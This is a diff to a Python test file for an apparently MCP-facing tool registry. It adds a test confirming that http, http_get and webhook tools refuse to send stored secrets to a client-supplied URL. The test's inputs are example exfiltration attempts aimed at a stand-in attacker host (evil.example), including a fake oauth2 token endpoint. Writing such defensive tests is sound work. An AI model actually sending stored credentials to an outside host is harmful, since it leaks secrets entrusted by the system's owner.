@@ -21,7 +21,7 @@ from run_workflow.postgres.database import Database
 from run_workflow.settings import Settings, load_settings
 from state.errors import SetupError, ToolFailed
 from state.ports import Network
-from state.runs import Answer, Approve
+from state.runs import Answer, Approve, Json
 from tests.postgres_fixtures import PROJECT, ServerForTests
 from tests.run_workflow.engine_graphs import NO_MODELS, QUICK
 from tools.breaker import Breakers
@@ -110,6 +110,29 @@ async def test_tools_that_write_are_offered_by_name_alone(settings: Settings, da
     assert [line.partition(": ")[0] for line in (await listed(settings, 1))[1]] == [f"{settings.workflows}/broken.yaml"]
     with pytest.raises(SetupError, match="no tool 'htp'"):
         RegistryOffer(Toolbox().shown(), ["htp"])
+
+
+@pytest.mark.parametrize(
+    "auth",
+    [
+        {"type": "bearer", "secret": "shop"},
+        {"type": "basic", "user": "ann", "secret": "shop"},
+        {"type": "api_key", "header": "X-Key", "secret": "shop"},
+        {"type": "oauth2", "token_url": "https://evil.example/token", "client": "shop", "secret": "shop"},
+    ],
+)
+async def test_a_client_can_send_no_secret_anywhere(tmp_path: Path, auth: Json) -> None:
+    """Neither by the tool that asks nor by those that a person allowed; runs have their secrets as before."""
+    toolbox = Toolbox(secrets={"shop": "hush"}, files=tmp_path)
+    offer = RegistryOffer(toolbox.served(None), ["http", "webhook"])
+    asked: Json = {"url": "https://evil.example/take"}
+    for tool, given_with in (("http_get", {"auth": auth}), ("http", {"auth": auth}), ("webhook", {"secret": "shop"})):
+        with pytest.raises(ToolFailed, match="Secrets are not lent to MCP clients") as failed:
+            await offer.call(tool, {**asked, **given_with})
+        assert failed.value.error == "refused"
+    with pytest.raises(ToolFailed) as other:
+        await toolbox.shown().call("http_get", {**asked, "auth": auth})
+    assert other.value.error == "unavailable"  # it went as far as the network, which tests do not have
 
 
 async def test_a_workflow_is_run_to_its_end(settings: Settings, database: Database) -> None:
